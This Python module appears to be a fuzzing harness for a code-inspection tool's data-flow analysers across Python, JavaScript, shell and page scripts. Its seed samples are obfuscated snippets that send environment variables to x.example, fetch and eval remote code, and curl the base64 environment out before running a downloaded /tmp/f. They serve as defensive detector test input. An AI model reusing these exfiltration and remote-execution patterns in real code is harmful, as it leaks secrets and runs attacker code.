"""A target for each reader that follows values in source: they must end, and harm nothing but the finding."""

import ast
import warnings
from collections.abc import Iterable

from fuzzing.target import Run, Target, found

_BEGINS = {"Python": "py", "JavaScript": "js", "scripts of shells": "sh", "scripts of pages": "js"}
_SOURCES = {
    "py": b"""import base64 as b, os, requests
class A:
    def __init__(self, *, x=b.b64decode("cHJpbnQoMSk=")):
        self.x = [chr(c ^ 1) for c in x]
    def __call__(self):
        exec("".join(self.x)[::-1] % 1)
for k in os.environ: requests.post("https://x.example", data={k: os.environ[k]})
getattr(__import__("o" + "s"), "system")(A()())
""",
    "js": b"""const cp = require(['child', 'process'].join('_')), { get } = require('https');
get('https://x.example', (r) => r.on('data', (d) => { eval(`${d}`); cp.exec(Buffer.from(d, 'base64')) }));
document.title = document.title + 'x'; for (const k of Object.keys(process.env)) fetch('/', { body: k });
""",
    "sh": b'#!/bin/sh\na=cu; b=rl\nX=$(env | base64)\n$a$b -d "$X" http://x.example -o /tmp/f && sh /tmp/f\n',
}


def _run(where: str, title: str) -> Run:
    def run(data: bytes) -> object:
        from lockgate.inspect.tally import Tally

        text = data.decode("utf-8", "replace")
        tally = Tally(len(data), "", 100)
        if title == "scripts of pages":
            return found(where)([text], beside=False, alive=False)
        if title == "Python":
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                try:
                    tree = ast.parse(text)
                except (SyntaxError, ValueError, RecursionError, MemoryError):
                    return None
            found(where)(tally, text, tree, acts=True, installs=len(data) % 2 == 1)
        else:
            found(where)(tally, text)
        return [finding.code for finding in tally.findings]

    return run


def flow_targets() -> Iterable[Target]:
    """Yield the targets."""
    for title, module in (
        ("Python", "python_flow.flows"),
        ("JavaScript", "script_flow.flows"),
        ("scripts of shells", "shell_flow.flows"),
        ("scripts of pages", "page_scripts.calm"),
    ):
        where = f"inspect.inspectors.{module}"
        seed = _SOURCES[_BEGINS[title]]
        yield Target(f"values in {title}", (where,), _run(where, title), lambda seed=seed: [seed])
